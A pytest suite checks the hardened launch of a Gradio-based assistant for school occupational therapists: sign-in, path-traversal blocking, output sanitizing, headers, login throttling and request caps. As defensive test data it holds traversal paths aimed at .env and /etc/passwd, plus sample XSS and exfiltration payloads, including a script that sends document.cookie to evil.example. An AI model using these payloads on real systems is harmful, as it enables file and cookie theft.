"""The hardened launch: loopback or sign-in, files outside the app's temp folder refused (also encoded),
analytics, share links, run history and tracing off, sanitized model output, a "busy" answer when full."""

import json
import os
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path

import pytest

from assistant.embeddings import force_offline
from assistant.errors import ConfigError
from assistant.privacy import LINK_REMOVED, sanitize_output
from assistant.server import BUSY, RequestGuard, check_bind, launch_options
from tests.apprunner import ROOT, running_app
from tests.conftest import make_settings

TRAVERSALS = [
    "/gradio_api/file=../.env",
    "/gradio_api/file=..%2F.env",
    "/gradio_api/file=%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/gradio_api/file=%252e%252e%252f.env",
    "/gradio_api/file=..%5c..%5c.env",
    "/gradio_api/file=/etc/passwd",
    "/gradio_api/file=data/index/chroma.sqlite3",
    "/gradio_api/file={data}/logs/audit.jsonl",
    "/gradio_api/file={data}/index/chroma.sqlite3",
    "/gradio_api/file=.env",
    "/gradio_api/file=%2Eenv",
    "/gradio_api/file=https://example.org/x.png",
    "/gradio_api/file=//example.org/x.png",
    "/file=.env",
    "/.env",
    "/static/../../.env",
    "/assets/..%2f..%2f.env",
]


def test_a_non_loopback_address_needs_a_sign_in(tmp_path):
    check_bind(make_settings(tmp_path, host="127.0.0.1"))
    with pytest.raises(ConfigError, match=r"refusing to listen on 0\.0\.0\.0"):
        check_bind(make_settings(tmp_path, host="0.0.0.0"))
    check_bind(make_settings(tmp_path, host="0.0.0.0", auth_username="ot", auth_password="a long passphrase"))


def test_app_py_refuses_a_public_address_without_sign_in_in_one_line(tmp_path):
    env = {**os.environ, "SCHOOLOT_HOST": "0.0.0.0", "SCHOOLOT_DATA_DIR": str(tmp_path)}
    result = subprocess.run([sys.executable, str(ROOT / "app.py")], env=env, capture_output=True, text=True, timeout=60)
    assert result.returncode == 2
    assert result.stderr.strip().startswith("error: refusing to listen on 0.0.0.0")
    assert "Traceback" not in result.stderr and len(result.stderr.strip().splitlines()) == 1


def test_launch_options_turn_off_share_history_monitoring_and_api_docs(tmp_path):
    options = launch_options(make_settings(tmp_path / "data"), tmp_path / "tmp")
    assert options["share"] is False and options["run_history"] is False and options["enable_monitoring"] is False
    assert options["mcp_server"] is False and options["show_error"] is False and options["auth"] is None
    assert str((tmp_path / "data").resolve()) in options["blocked_paths"]
    assert options["app_kwargs"]["openapi_url"] is None


def test_tracing_and_analytics_are_forced_off_even_when_the_environment_turns_them_on(monkeypatch):
    monkeypatch.setenv("LANGCHAIN_TRACING_V2", "true")
    monkeypatch.setenv("LANGSMITH_TRACING", "true")
    monkeypatch.setenv("GRADIO_ANALYTICS_ENABLED", "True")
    force_offline()
    assert os.environ["LANGCHAIN_TRACING_V2"] == "false" and os.environ["LANGSMITH_TRACING"] == "false"
    assert os.environ["GRADIO_ANALYTICS_ENABLED"] == "False" and os.environ["HF_HUB_OFFLINE"] == "1"


@pytest.mark.parametrize("path", TRAVERSALS)
def test_the_guard_refuses_paths_outside_the_app_temp_folder(tmp_path, path):
    guard = RequestGuard(None, served_root=str(tmp_path / "tmp"), blocked=(str(tmp_path / "data"),))
    raw, _, query = path.format(data=tmp_path / "data").partition("?")
    assert guard.refusal(raw, query)


def test_the_guard_serves_the_apps_own_downloads_and_pages(tmp_path):
    guard = RequestGuard(None, served_root=str(tmp_path / "tmp"), blocked=(str(tmp_path / "data"),))
    assert guard.refusal(f"/gradio_api/file={tmp_path}/tmp/gradio/abc/school-ot-draft.docx", "") is None
    for path in ["/", "/gradio_api/info", "/assets/index-abc.js", "/gradio_api/queue/join", "/config"]:
        assert guard.refusal(path, "") is None


@pytest.mark.parametrize(
    ("reply", "gone"),
    [
        ("Try this ![chart](https://evil.example/p.png?d=Maya) today", "evil.example"),
        ("See [the guide](https://evil.example/x) for more", "evil.example"),
        ("<script>fetch('https://evil.example/'+document.cookie)</script>Done", "script"),
        ("<img src=x onerror=alert(1)>Answer", "onerror"),
        ('<a href="javascript:alert(1)">click</a>', "javascript"),
        ("Visit www.evil.example/track now", "evil.example"),
        ("[ref]: https://evil.example/t\nAnswer [x][ref]", "evil.example"),
        ("<iframe src='https://evil.example'></iframe>ok", "iframe"),
    ],
)
def test_model_output_is_sanitized_before_rendering(reply, gone):
    cleaned = sanitize_output(reply)
    assert gone not in cleaned.lower()
    assert "<" not in cleaned or "&lt;" in cleaned


def test_sanitizing_keeps_ordinary_answers_and_link_words():
    text = "Push-in means the OT works in the classroom; **pull-out** is a separate room. 3 < 4 trials."
    assert sanitize_output(text) == text
    assert sanitize_output("see [the guide](http://x.example)") == "see the guide"
    assert LINK_REMOVED in sanitize_output("go to http://x.example/path now")


@pytest.fixture(scope="module")
def signed_in_app(tmp_path_factory, index_settings):
    """The app on all interfaces with a sign-in, a queue of 1 and one worker (reached over loopback)."""
    work = tmp_path_factory.mktemp("hardened")
    (work / ".env").write_text("SCHOOLOT_LLM_API_KEY=sk-secret-from-dotenv\n")
    env = {
        "SCHOOLOT_HOST": "0.0.0.0",
        "SCHOOLOT_AUTH_USERNAME": "ot",
        "SCHOOLOT_AUTH_PASSWORD": "correct horse battery",
        "SCHOOLOT_DATA_DIR": str(work / "data"),
        "SCHOOLOT_INDEX_DIR": str(index_settings.index_path),
        "SCHOOLOT_QUEUE_SIZE": "1",
        "SCHOOLOT_CONCURRENCY": "1",
    }
    with running_app(work, env) as app:
        yield app, work


def _get(url: str, headers: dict | None = None) -> tuple[int, str]:
    request = urllib.request.Request(url, headers=headers or {})
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.read().decode(errors="replace")


@pytest.mark.slow
def test_the_signed_in_app_refuses_strangers(signed_in_app):
    app, _ = signed_in_app
    status, _ = _get(app.url + "gradio_api/info")
    assert status in (401, 403)
    status, body = _get(app.url + "config")
    assert status in (401, 403) or "auth_required" in body


@pytest.mark.slow
@pytest.mark.parametrize("path", TRAVERSALS)
def test_the_running_app_answers_403_to_traversal_and_private_files(signed_in_app, path):
    app, work = signed_in_app
    target = path.format(data=work / "data")
    status, body = _get(app.url.rstrip("/") + target)
    assert status == 403, (target, status, body[:200])
    assert "sk-secret-from-dotenv" not in body and "SQLite" not in body


@pytest.mark.slow
def test_a_full_queue_answers_busy_and_the_app_keeps_working(signed_in_app):
    from gradio_client import Client

    app, _ = signed_in_app
    client = Client(app.url, auth=("ot", "correct horse battery"), verbose=False)
    cookies = "; ".join(f"{k}={v}" for k, v in client.cookies.items())
    headers = {"Content-Type": "application/json", "Cookie": cookies}
    statuses: list[tuple[int, str]] = []

    def submit() -> None:
        data = json.dumps({"data": ["Plan a 60-minute pull-out session for cutting, buttons and writing"]}).encode()
        request = urllib.request.Request(app.url + "gradio_api/call/chat", data=data, headers=headers)
        try:
            with urllib.request.urlopen(request, timeout=30) as response:
                statuses.append((response.status, response.read().decode()))
        except urllib.error.HTTPError as error:
            statuses.append((error.code, error.read().decode()))

    threads = [threading.Thread(target=submit) for _ in range(24)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    codes = [code for code, _ in statuses]
    print("burst of 24 at queue size 1:", {code: codes.count(code) for code in set(codes)})
    assert set(codes) <= {200, 503} and 503 in codes, codes
    assert all(json.loads(body)["detail"] == BUSY for code, body in statuses if code == 503)
    # Once the accepted requests are done, the app answers again.
    deadline = time.monotonic() + 60
    while True:
        try:
            answer = client.predict("Is handwriting in scope for a 2nd grader with an IEP?", api_name="/scope")
            break
        except Exception:
            assert time.monotonic() < deadline, "the app did not recover from a full queue"
            time.sleep(0.5)
    assert answer["verdict"] == "in_scope"


def test_the_env_file_of_the_project_is_blocked_too(tmp_path):
    options = launch_options(make_settings(tmp_path / "data"), tmp_path / "tmp")
    assert str(ROOT / ".env") in options["blocked_paths"] or str(Path(ROOT / ".env")) in options["blocked_paths"]


def _request(url: str, data: bytes | None = None, headers: dict | None = None, method: str | None = None):
    request = urllib.request.Request(url, data=data, headers=headers or {}, method=method)
    try:
        with urllib.request.urlopen(request, timeout=15) as response:
            return response.status, response.headers, response.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return error.code, error.headers, error.read().decode(errors="replace")


def _sign_in(app, password: str = "correct horse battery"):
    form = urllib.parse.urlencode({"username": "ot", "password": password}).encode()
    return _request(app.url + "login", form, {"Content-Type": "application/x-www-form-urlencoded"})


@pytest.mark.slow
def test_every_answer_carries_the_security_headers(signed_in_app):
    app, _ = signed_in_app
    for path in ("", "gradio_api/info", "no-such-page", "gradio_api/file=../.env"):
        _, headers, _ = _request(app.url + path)
        lower = {k.lower(): v for k, v in headers.items()}
        csp = lower.get("content-security-policy", "")
        assert "script-src 'self'" in csp and "img-src 'self' data: blob:" in csp and "connect-src 'self'" in csp
        assert "frame-ancestors 'none'" in csp and "http" not in csp.replace("'self'", "")
        assert lower.get("x-frame-options") == "DENY" and lower.get("x-content-type-options") == "nosniff"
        assert lower.get("referrer-policy") == "no-referrer" and "strict-transport-security" not in lower


@pytest.mark.slow
def test_sign_in_cookies_are_httponly_and_samesite_strict(signed_in_app):
    app, _ = signed_in_app
    status, headers, _ = _sign_in(app)
    assert status == 200
    cookies = headers.get_all("Set-Cookie") or []
    assert len(cookies) == 2
    assert all("HttpOnly" in c and "SameSite=Strict" in c and "SameSite=none" not in c for c in cookies)


@pytest.mark.slow
@pytest.mark.parametrize(
    "path",
    ["gradio_api/heartbeat/abc123", "gradio_api/queue/data?session_hash=abc", "gradio_api/upload_progress",
     "gradio_api/app_id", "gradio_api/token", "gradio_api/user", "gradio_api/startup-events/../info"],
)  # fmt: skip
def test_every_route_but_the_sign_in_page_needs_a_session(signed_in_app, path):
    app, _ = signed_in_app
    status, _, body = _request(app.url + path)
    assert status in (401, 403), (path, status, body[:200])


@pytest.mark.slow
def test_api_docs_and_tools_that_echo_to_the_console_are_not_served(signed_in_app):
    app, _ = signed_in_app
    _, headers, _ = _sign_in(app)
    cookie = "; ".join(v.split(";")[0] for v in headers.get_all("Set-Cookie") or [])
    marker = "ECHO-7f3a-\x1b[31mRED"
    for path in ("gradio_api/openapi.json", "openapi.json", "docs", "redoc", "gradio_api/docs",
                 f"gradio_api/custom_component/{urllib.parse.quote(marker)}/client/x/y.js", "gradio_api/vibe-edit",
                 "monitoring", "gradio_api/runs"):  # fmt: skip
        status, _, _ = _request(app.url + path, headers={"Cookie": cookie})
        assert status == 404, (path, status)
    time.sleep(0.3)
    assert "ECHO-7f3a" not in app.log()


def _chunked_post(url: str, megabytes: int) -> tuple[int, int]:
    """(status, bytes sent) of a chunked POST that keeps sending until the server answers or closes."""
    import socket
    from urllib.parse import urlparse

    parsed = urlparse(url)
    sent = 0
    with socket.create_connection((parsed.hostname, parsed.port), timeout=15) as sock:
        sock.sendall(
            f"POST {parsed.path} HTTP/1.1\r\nHost: {parsed.netloc}\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n".encode()
        )
        chunk = b"1" * 65536
        try:
            for _ in range(megabytes * 16):
                sock.sendall(f"{len(chunk):x}\r\n".encode() + chunk + b"\r\n")
                sent += len(chunk)
            sock.sendall(b"0\r\n\r\n")
        except OSError:
            pass  # the server stopped reading: what it answered is below
        try:
            answer = sock.recv(4096).decode(errors="replace")
        except OSError:
            answer = ""
    status = int(answer.split()[1]) if answer.startswith("HTTP/") else 0
    return status, sent


def _rss_mb(pid: int) -> float:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1]) / 1024
    return 0.0


@pytest.mark.slow
def test_a_chunked_body_over_the_cap_is_refused_while_it_streams(signed_in_app):
    # the red-team's shape: a chunked 60 MB body was accepted and the app grew by 165 MB
    app, _ = signed_in_app
    before = _rss_mb(app.process.pid)
    status, sent = _chunked_post(app.url + "gradio_api/queue/join", 60)
    grown = _rss_mb(app.process.pid) - before
    print(f"chunked 60 MB: answered {status} after {sent / 1e6:.1f} MB sent; the app grew by {grown:.1f} MB")
    assert status == 413 and grown < 40
    assert _request(app.url)[0] == 200  # still serving


@pytest.mark.slow
def test_failed_sign_ins_are_throttled_per_client_with_backoff(signed_in_app):
    # the red-team's shape: 300 wrong passwords in 0.3 s, no lockout
    app, _ = signed_in_app
    statuses = [_sign_in(app, f"wrong {n}")[0] for n in range(12)]
    print("12 wrong passwords:", statuses)
    assert statuses[:5] == [400] * 5 and 429 in statuses[5:]
    status, headers, body = _sign_in(app)  # even the right password waits its turn
    assert status == 429 and int({k.lower(): v for k, v in headers.items()}["retry-after"]) >= 1
    assert "too many failed sign-ins" in body
    deadline = time.monotonic() + 40
    while (status := _sign_in(app)[0]) == 429 and time.monotonic() < deadline:
        time.sleep(1)
    assert status == 200  # after the wait the owner gets in, and the count starts again


@pytest.mark.slow
def test_the_drafts_key_reaches_every_signed_in_browser_as_privacy_md_says(signed_in_app):
    """PRIVACY.md says the drafts' key is part of the page's configuration (so it does not protect the drafts
    from someone using that browser): this holds it to that."""
    app, _ = signed_in_app
    _, headers, _ = _sign_in(app)
    cookie = "; ".join(v.split(";")[0] for v in headers.get_all("Set-Cookie") or [])
    status, _, body = _request(app.url + "config", headers={"Cookie": cookie})
    assert status == 200
    states = [c for c in json.loads(body)["components"] if c.get("props", {}).get("storage_key") == "school-ot-drafts"]
    assert states and len(states[0]["props"].get("secret") or "") >= 16
    assert "scrambled with a key the app makes at each start" in (ROOT / "PRIVACY.md").read_text()
